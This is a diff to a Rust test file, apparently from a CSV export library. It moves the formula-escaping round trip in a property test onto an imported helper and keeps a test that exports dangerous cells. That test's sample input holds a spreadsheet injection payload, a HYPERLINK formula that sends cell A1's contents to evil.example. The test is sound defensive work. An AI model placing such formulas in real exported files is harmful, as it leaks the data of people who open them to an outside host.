@@ -8,7 +8,7 @@ use common::whole::{whole, with};
 use common::widget::{choose, host, say};
 use common::{FEEDS, date, document};
 use policy_explorer::citation::Format;
-use policy_explorer::csv::Csv;
+use policy_explorer::csv::{Csv, harmed};
 use policy_explorer::model::field::Field;
 use policy_explorer::model::share::{File, Link, Offer, ShareAct};
 use policy_explorer::model::take::texts;
@@ -379,21 +379,6 @@ fn is_dangerous(cell: &str) -> bool {
 /// Where some program or other begins a new cell.
 const PARTING: [char; 4] = [';', '\t', '\r', '\n'];
 
-/// The text of a cell, with an apostrophe before what is dangerous.
-fn safe(cell: &str) -> String {
-    let begin = if cell.starts_with(['\t', '\r', '\n']) { "'" } else { "" };
-    let mut text = begin.to_owned();
-    let mut is_new = true;
-    for (at, letter) in cell.char_indices() {
-        if is_new && is_dangerous(&cell[at..]) {
-            text.push('\'');
-        }
-        text.push(letter);
-        is_new = PARTING.contains(&letter);
-    }
-    text
-}
-
 #[test]
 fn nothing_in_a_table_is_run_wherever_a_program_parts_it() {
     let note = "x;=HYPERLINK(\"http://evil.example/\"&A1;\"open\")\ty\t@SUM(1)\nz\n-1; +2;\"=3";
@@ -443,10 +428,10 @@ proptest! {
         let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
         let read: Vec<Vec<String>> =
             reader.deserialize().map(|row| row.expect("rows of one length")).collect();
-        let expected: Vec<Vec<String>> =
-            rows.iter().map(|row| row.iter().map(|cell| safe(cell)).collect()).collect();
+        let back: Vec<Vec<String>> =
+            read.iter().map(|row| row.iter().map(|cell| harmed(cell)).collect()).collect();
         prop_assert!(read.iter().flatten().all(|cell| !is_dangerous(cell)));
         prop_assert!(text.split(PARTING).all(|cell| !is_dangerous(cell)), "{}", text);
-        prop_assert_eq!(read, expected);
+        prop_assert_eq!(back, rows);
     }
 }
